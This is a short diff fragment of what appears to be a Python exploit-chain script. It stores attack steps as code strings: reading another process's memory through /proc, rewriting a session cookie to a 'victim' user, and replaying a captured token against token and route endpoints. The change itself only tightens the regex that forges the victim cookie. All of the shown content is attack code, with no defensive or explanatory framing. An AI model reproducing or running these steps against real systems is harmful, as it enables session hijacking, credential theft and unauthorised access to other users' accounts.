@@ -39,7 +39,7 @@ with open(f"/proc/{facts['kernel']}/mem", "rb", 0) as memory:
 """
 RENAME = """
 import re
-renamed = re.sub("user-[^=]*=", f"user-{facts['victim']}=", facts["mine"]["Cookie"])
+renamed = re.sub("user-[a-z0-9-]*=", f"user-{facts['victim']}=", facts["mine"]["Cookie"])
 """
 TOKEN = 'ask(facts["tokens"], "POST", b"{}", **{"Content-Type": "application/json"})'
 PROXY = "ask(facts['routes'], Authorization='token ' + facts['token'])"
